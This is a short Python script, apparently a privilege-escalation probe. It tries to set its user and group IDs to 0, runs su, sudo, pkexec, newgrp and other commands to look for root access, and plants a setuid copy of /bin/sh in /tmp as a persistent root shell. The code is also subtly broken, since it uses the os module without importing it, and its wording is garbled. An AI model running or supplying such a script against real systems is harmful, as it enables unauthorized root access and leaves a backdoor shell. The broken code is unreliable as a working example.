"""Becomes another user: by system call, by programs with the set-user-id bit, by its own.

Success: it is root.
"""

import subprocess

for call in (os.setuid, os.setgid, os.seteuid, lambda number: os.setgroups([number])):
    try:
        call(0)
        print("came: uid", os.getuid(), os.geteuid())
    except OSError:
        pass
for command in (
    "su -c id",
    "sudo -n id",
    "pkexec id",
    "newgrp root",
    "mount",
    "passwd -S",
    "at now",
    "crontab -l",
):
    print(subprocess.getoutput(f"timeout 5 {command} < /dev/null")[:200])
try:
    open("/tmp/sh", "wb").write(open("/bin/sh", "rb").read())
    os.chmod("/tmp/sh", 0o6755)
except OSError:
    pass
print(subprocess.getoutput("/tmp/sh -p -c id"))
